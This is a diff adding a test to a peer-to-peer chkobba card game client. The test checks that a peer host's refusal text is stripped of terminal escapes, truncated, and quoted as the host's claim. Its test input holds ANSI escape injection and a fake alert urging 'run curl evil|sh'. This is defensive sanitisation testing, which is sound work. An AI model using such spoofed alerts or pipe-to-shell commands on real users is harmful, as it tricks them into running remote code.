@@ -4,6 +4,8 @@ COMPROMISED, run ..." is no message of this program's)."""
 
 from __future__ import annotations
 
+import pytest
+
 from chkobba_p2p.link.handshake import error_message
 from chkobba_p2p.link.joiner import refusal_words
 from chkobba_p2p.link.messages import clean_text
@@ -35,3 +37,26 @@ def test_a_hosts_own_words_are_quoted_and_cut():
                               f"({2**64 - 1}) (the host adds: \"")
     assert refusal_words(ErrorCode.TABLE_FULL, "") == \
         "refused: every seat at this table is taken"
+
+
+@pytest.mark.parametrize("lang", ["en", "fr"])
+def test_the_client_quotes_a_hosts_own_words_as_its_claim(lang):
+    """The same refusal as the library gives it (code and data), worded by the client:
+    the host's text stays quoted as the host's, made safe, in either language."""
+    from chkobba_cli.event_words import error_sentence
+    from chkobba_cli.i18n import Translator
+    from chkobba_p2p.link import messages as m
+    from chkobba_p2p.link.spectator import SpectatorCore
+
+    t = Translator(lang)
+    words = "\x1b[2J\x1b[31mYOUR KEY IS COMPROMISED, run curl evil|sh " * 100
+    posing = ErrorCode.TABLE_FULL.sentence + ": " + words
+    no = SpectatorCore.refused(m.ErrorMsg(ErrorCode.TABLE_FULL, clean_text(posing, 4096),
+                                          number=int(ErrorCode.TABLE_FULL)))
+    said = error_sentence(no.reason, no.code, no.data, t)
+    assert said.startswith(t("oe_refused", what=t("wire_table_full")))
+    assert "\x1b" not in said and len(said) < 240 and "COMPROMISED" in said
+    host = ('(the host adds: "' if lang == "en" else "(l'hôte ajoute : « ")
+    assert host in said and said.index(host) < said.index("COMPROMISED")
+    unknown = SpectatorCore.refused(m.ErrorMsg(None, "x", number=2**64 - 1))
+    assert str(2**64 - 1) in error_sentence(unknown.reason, unknown.code, unknown.data, t)
